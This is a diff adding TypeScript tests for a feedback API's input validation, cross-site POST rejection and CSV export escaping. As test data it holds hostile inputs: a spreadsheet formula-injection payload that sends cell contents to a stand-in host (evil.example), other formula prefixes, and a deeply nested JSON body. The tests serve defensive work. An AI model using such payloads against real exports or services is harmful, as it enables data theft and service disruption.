@@ -47,6 +47,61 @@ describe("reader feedback", () => {
     await reopened.close();
   });
 
+  it("refuses NUL characters, deep nesting and citations of another shape with 400s naming the field", async () => {
+    const rating = { rating: "down", question: "قم چند شهرک صنعتی دارد؟", answer: "هفت شهرک صنعتی [1]", citations: [{ n: 1, articleId: "002_804e4a69935f094f", title: "قم", quote: "هفت شهرک", start: 0, end: 9, score: 1.2 }] };
+    const refused = async (body: unknown, message: RegExp) => {
+      const res = await post(app, "/api/feedback", body);
+      const json = (await res.json()) as { error: { code: string; message: string } };
+      assert.equal(res.status, 400, JSON.stringify(json));
+      assert.equal(json.error.code, "invalid_request");
+      assert.match(json.error.message, message);
+    };
+    const before = (await store.list({ limit: 500, offset: 0 })).total;
+    await refused({ ...rating, question: "قم\u0000" }, /^question must not contain NUL characters/);
+    await refused({ ...rating, comment: "\u0000" }, /^comment must not contain NUL characters/);
+    await refused({ ...rating, citations: [{ ...rating.citations[0], quote: "a\u0000" }] }, /^citations\[0\]\.quote must not contain NUL characters/);
+    const deep = JSON.stringify({ ...rating, citations: [] }).replace('"citations":[]', `"citations":[${"[".repeat(20_000)}${"]".repeat(20_000)}]`);
+    await refused(deep, /^citations\[0\] must be a citation/);
+    await refused({ ...rating, citations: [{ n: 1, articleId: "x", title: { nested: { deeper: true } } }] }, /^citations\[0\]\.title must be a string/);
+    await refused({ ...rating, citations: ["[1]"] }, /^citations\[0\] must be a citation/);
+    await refused({ ...rating, citations: [{ n: 0, articleId: "x" }] }, /^citations\[0\]\.n must be at least 1/);
+    await refused({ ...rating, citations: [{ n: 1, articleId: "x", quote: "ق".repeat(4001) }] }, /^citations\[0\]\.quote is longer than 4000 characters/);
+    assert.equal((await store.list({ limit: 500, offset: 0 })).total, before, "nothing refused was stored");
+
+    // The citation the widget sends is kept as it is, and fields it does not know are dropped.
+    assert.equal((await post(app, "/api/feedback", { ...rating, citations: [{ ...rating.citations[0], extra: { a: 1 } }] })).status, 201);
+    const [row] = (await store.list({ limit: 1, offset: 0 })).rows;
+    assert.deepEqual(row!.citations, rating.citations);
+  });
+
+  it("stores a rating only from a body sent as JSON: a text/plain or form POST from another site gets 415", async () => {
+    const before = (await store.list({ limit: 500, offset: 0 })).total;
+    const body = JSON.stringify({ rating: "up", question: "قم چند شهرک صنعتی دارد؟", answer: "x" });
+    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]) {
+      const res = await app.request("/api/feedback", { method: "POST", headers: { "content-type": type, origin: "https://evil.example" }, body });
+      assert.equal(res.status, 415, type);
+      assert.equal(((await res.json()) as { error: { code: string } }).error.code, "unsupported_media_type");
+    }
+    assert.equal((await store.list({ limit: 500, offset: 0 })).total, before);
+  });
+
+  it("exports cells a spreadsheet would run as formulas as text", async () => {
+    const formulas = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"];
+    for (const f of formulas) assert.equal((await post(app, "/api/feedback", { rating: "down", question: f, answer: f, comment: f })).status, 201);
+    const csv = await (await app.request(`/api/feedback?format=csv&limit=${formulas.length}`, { headers: auth })).text();
+    const rows = csv.trim().split(/\r\n(?="\d+",)/).slice(1);
+    assert.equal(rows.length, formulas.length);
+    for (const row of rows) {
+      const cells = [...row.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replace(/""/g, '"'));
+      for (const cell of cells.slice(4)) assert.match(cell, /^'[=+\-@\t\r]/, `a live formula in ${JSON.stringify(row)}`);
+    }
+    assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`), csv);
+    // Ordinary text is left as it is.
+    assert.equal((await post(app, "/api/feedback", { rating: "up", question: "قم چند شهرک صنعتی دارد؟", answer: "۷ شهرک" })).status, 201);
+    const plain = await (await app.request("/api/feedback?format=csv&limit=1", { headers: auth })).text();
+    assert.ok(plain.includes('"قم چند شهرک صنعتی دارد؟","۷ شهرک"'), plain);
+  });
+
   it("rejects bad feedback with a message naming the field, and keeps the list for editors only", async () => {
     const res = await post(app, "/api/feedback", { rating: "meh", question: "x", answer: "y" });
     assert.equal(res.status, 400);
